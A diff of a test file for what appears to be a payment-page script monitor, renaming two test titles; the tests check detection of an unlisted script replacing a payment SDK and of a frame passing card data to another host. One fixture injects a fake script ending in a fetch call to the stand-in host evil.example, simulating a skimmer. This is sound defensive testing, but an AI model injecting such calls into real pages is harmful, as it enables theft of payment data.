@@ -193,7 +193,7 @@ describe('an intact page', { timeout: BROWSER_TIME }, () => {
 });
 
 describe('a script that is in no list', { timeout: BROWSER_TIME }, () => {
-  test('in place of the SDK is found [sdk-replaced]', async () => {
+  test('in place of the SDK is found', async () => {
     served(`${shop}/pay.global.js`).body = `${LOADER} fetch("https://evil.example")`;
     expect(await errors()).toContainEqual(
       expect.stringMatching(/^script http:.*\/pay\.global\.js: It ran and is in no list: sha384-/),
@@ -282,7 +282,7 @@ describe('a page that passes card data to another host', { timeout: BROWSER_TIME
     ownSources = { [directive]: [...(requiredPolicy[directive] ?? []), source] };
   };
 
-  test('by a frame over the form is found, unless its list has that host [phishing-frame]', async () => {
+  test('by a frame over the form is found, unless its list has that host', async () => {
     const other = `http://fields.localhost:${server.port}`;
     site[`${other}/`] = {
       headers: { 'Content-Type': 'text/html' },
